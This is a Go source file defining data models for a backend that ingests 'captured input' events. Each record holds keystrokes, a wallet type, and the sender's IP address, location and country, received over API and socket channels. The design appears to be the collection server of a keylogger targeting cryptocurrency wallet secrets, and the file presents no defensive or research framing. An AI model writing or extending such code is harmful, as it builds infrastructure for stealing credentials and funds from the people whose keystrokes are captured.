package model

import (
	"fmt"
	"time"
)

// KeyType classifies a captured input event.
type KeyType string

const (
	KeyTypeChar  KeyType = "cha"
	KeyTypeEnter KeyType = "enter"
)

func (k KeyType) Valid() bool {
	return k == KeyTypeChar || k == KeyTypeEnter
}

// KeyPayload is the body delivered by both channels for one captured input.
type KeyPayload struct {
	UserID      string  `json:"user_id"`
	KeyType     KeyType `json:"key_type"`
	Keys        string  `json:"keys"`
	WalletType  string  `json:"wallet_type"`
	IPAddress   string  `json:"IP_address"`
	Location    string  `json:"Location"`
	CountryCode string  `json:"country_code"`
}

// Validate checks the fields the backend requires.
func (p KeyPayload) Validate() error {
	if p.UserID == "" {
		return fmt.Errorf("user_id is required")
	}
	if !p.KeyType.Valid() {
		return fmt.Errorf("invalid key_type %q", p.KeyType)
	}
	return nil
}

// Channel names the transport a key record arrived on.
type Channel string

const (
	ChannelAPI    Channel = "api"
	ChannelSocket Channel = "socket"
)

// KeyRecord is a delivered KeyPayload as persisted by the backend.
type KeyRecord struct {
	ID         string    `json:"id" gorm:"primaryKey;size:36"`
	UserID     string    `json:"user_id" gorm:"index;size:128"`
	KeyType    KeyType   `json:"key_type" gorm:"size:16"`
	Keys       string    `json:"keys"`
	WalletType string    `json:"wallet_type" gorm:"size:64"`
	IPAddress  string    `json:"IP_address" gorm:"size:64"`
	Location   string    `json:"Location"`
	Country    string    `json:"country_code" gorm:"size:16"`
	Channel    Channel   `json:"channel" gorm:"size:16"`
	ReceivedAt time.Time `json:"receivedAt" gorm:"index"`
}

// NewKeyRecord copies a payload into a record; id and timestamp are set by the caller.
func NewKeyRecord(id string, p KeyPayload, ch Channel, at time.Time) KeyRecord {
	return KeyRecord{
		ID:         id,
		UserID:     p.UserID,
		KeyType:    p.KeyType,
		Keys:       p.Keys,
		WalletType: p.WalletType,
		IPAddress:  p.IPAddress,
		Location:   p.Location,
		Country:    p.CountryCode,
		Channel:    ch,
		ReceivedAt: at,
	}
}
